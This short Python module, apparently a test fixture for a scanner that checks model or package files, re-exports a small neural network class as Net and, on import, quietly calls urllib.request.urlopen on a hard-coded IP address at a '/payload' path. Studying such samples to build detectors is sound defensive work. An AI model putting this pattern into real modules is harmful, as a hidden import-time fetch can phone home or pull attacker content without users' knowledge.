"""Fetches a payload over HTTP at import (an address literal, so no DNS is needed)."""

import urllib.request

from common import TinyCNN as Net

urllib.request.urlopen("http://93.184.215.14/payload", timeout=5)

__all__ = ["Net"]
